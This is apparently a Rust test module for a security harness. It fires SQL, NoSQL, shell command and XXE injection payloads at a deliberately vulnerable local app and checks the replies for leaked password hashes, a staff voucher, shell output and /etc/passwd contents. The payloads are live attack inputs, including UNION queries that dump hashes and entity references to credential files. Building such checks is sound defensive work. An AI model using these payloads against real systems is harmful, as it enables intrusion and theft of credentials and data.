//! Input that becomes code: SQL, document filters, shell commands, XML entities.

use serde_json::json;

use super::canary::Canary;
use super::client::{Call, encode, marker};
use super::ground::{Attempts, Ground, Seen};

pub(super) async fn sql(ground: &Ground) -> Attempts {
    let search = async |words: &str| ground.send(Call::get(format!("/search?q={}", encode(words)))).await;
    let hashes =
        search("zz' UNION SELECT id, name || ' ' || password_hash, tenant, 1, email FROM users --").await;
    let unlisted = search("zz' OR listed = 0 --").await;
    let schema = search("zz' UNION SELECT 1, sql, '', 1, '' FROM sqlite_master WHERE sql NOTNULL --").await;
    let twin = search("lamp").await;
    Attempts {
        variants: [
            Seen::reply(hashes.has("$argon2id$"), "password hashes in the search results", &hashes),
            Seen::reply(unlisted.has("Prototype clock"), "a product that is not announced", &unlisted),
            Seen::reply(schema.has("CREATE TABLE users"), "the schema of the database", &schema),
        ],
        twin: Seen::reply(
            twin.has("Reading lamp") && !twin.has("Brass pencil"),
            "the search finds lamps and only lamps",
            &twin,
        ),
    }
}

pub(super) async fn nosql(ground: &Ground) -> Attempts {
    let redeem =
        async |filter| ground.send_as("alice", Call::post("/api/vouchers/redeem").json(&filter)).await;
    let other = redeem(json!({ "code": { "$ne": "WELCOME10" } })).await;
    let prefix = redeem(json!({ "code": { "$prefix": "STAFF" } })).await;
    let greater = redeem(json!({ "percent": { "$gt": 50 } })).await;
    let twin = redeem(json!({ "code": "WELCOME10" })).await;
    let staff =
        |reply| Seen::reply(reply_has(reply, "STAFF-7Q4M"), "the staff voucher, code included", reply);
    Attempts {
        variants: [staff(&other), staff(&prefix), staff(&greater)],
        twin: Seen::reply(
            twin.text_at("/vouchers/0/percent") == "10" && !twin.has("STAFF"),
            "the known voucher is redeemed",
            &twin,
        ),
    }
}

fn reply_has(reply: &super::client::Reply, text: &str) -> bool {
    reply.is_ok() && reply.has(text)
}

pub(super) async fn command(ground: &Ground) -> Attempts {
    let label = async |text: &str| {
        ground.send_as("alice", Call::get(format!("/api/labels?text={}", encode(text)))).await
    };
    let chained = label("lamp; echo $((7919*6271))").await;
    let substituted = label("$(expr 7919 \\* 6271)").await;
    let quoted = label("`expr 7919 \\* 6271`").await;
    let twin = label("lamp").await;
    // The payloads hold the factors only: the product can come from nobody but the shell.
    let computed = |reply| Seen::reply(reply_has(reply, "49660049"), "the shell computed 49660049", reply);
    Attempts {
        variants: [computed(&chained), computed(&substituted), computed(&quoted)],
        twin: Seen::reply(twin.is_ok() && twin.body.trim() == "LAMP", "the label reads LAMP", &twin),
    }
}

pub(super) async fn xxe(ground: &Ground) -> Attempts {
    let import = async |document: String| {
        ground.send_as("alice", Call::post("/api/import").body("application/xml", document)).await
    };
    let external = |place: &str| {
        format!(
            "<!DOCTYPE notes [<!ENTITY e SYSTEM \"{place}\">]>\
             <notes><note><title>imported</title><body>&e;</body></note></notes>"
        )
    };
    let passwd = import(external("file:///etc/passwd")).await;
    let key = import(external("../secrets/master.key")).await;
    let canary = Canary::start().await;
    let inside = import(external(&canary.url("127.0.0.1"))).await;
    let title = marker();
    let twin = import(format!(
        "<?xml version=\"1.0\"?><notes><note><title>{title}</title><body>one &amp; two</body></note></notes>"
    ))
    .await;
    Attempts {
        variants: [
            Seen::reply(reply_has(&passwd, "root:"), "/etc/passwd in the imported note", &passwd),
            Seen::reply(reply_has(&key, "strawman-master-key"), "the master key in the imported note", &key),
            Seen::reply(canary.told(&inside.body), "the answer of a server inside", &inside),
        ],
        twin: Seen::reply(
            twin.text_at("/imported/0/title") == title && twin.text_at("/imported/0/body") == "one & two",
            "the note is imported",
            &twin,
        ),
    }
}
